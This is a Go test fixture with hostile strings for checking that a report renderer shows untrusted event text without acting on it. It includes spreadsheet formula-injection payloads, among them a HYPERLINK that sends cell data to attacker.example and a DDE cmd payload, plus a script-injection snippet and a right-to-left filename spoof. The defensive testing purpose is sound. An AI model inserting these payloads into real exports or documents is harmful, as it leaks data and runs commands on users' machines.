package reportstest

// Hostile are texts that an event can hold because somebody outside chose
// them: a renderer shows each without obeying it.
var Hostile = []string{
	`=HYPERLINK("https://attacker.example/?"&A1,"open")`,
	`+1+cmd|' /C calc'!A0`,
	`-2+3`,
	`@SUM(1+9)`,
	"\t=1+1",
	"\r=1+1",
	"line one\nline two\r\nline three",
	"invoice\u202efdp.exe",
	"zero\u200bwidth\ufeff",
	"nul\x00 bell\x07 escape\x1b[31m",
	"bad \xff\xfe bytes",
	"emoji 🚨👩‍💻 and rare 𠮷野家",
	`<script>alert(1)</script> & <!-- ]]> -->`,
	"_x0041_ escaped",
	`quote " and 'apostrophe' and \ and (parenthesis`,
	"العربية עברית",
	LongHash,
	LongText,
}

// LongHash is one word that no column is wide enough for.
const LongHash = "arn:aws:iam::111122223333:role/aws-reserved/sso.amazonaws.com/ap-northeast-1/AWSReservedSSO_ProductionAdministratorAccess_0123456789abcdef/0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

// LongText is more than a cell of a page can hold, in sentences.
var LongText = func() string {
	s := ""
	for len(s) < 6000 {
		s += "本イベントは、深夜のメンテナンス作業において、承認された手順書「本番環境セキュリティグループ変更手順(第3版)」に従って実施されたものであり、作業責任者の立会いのもとで行われた。"
	}
	return s
}()
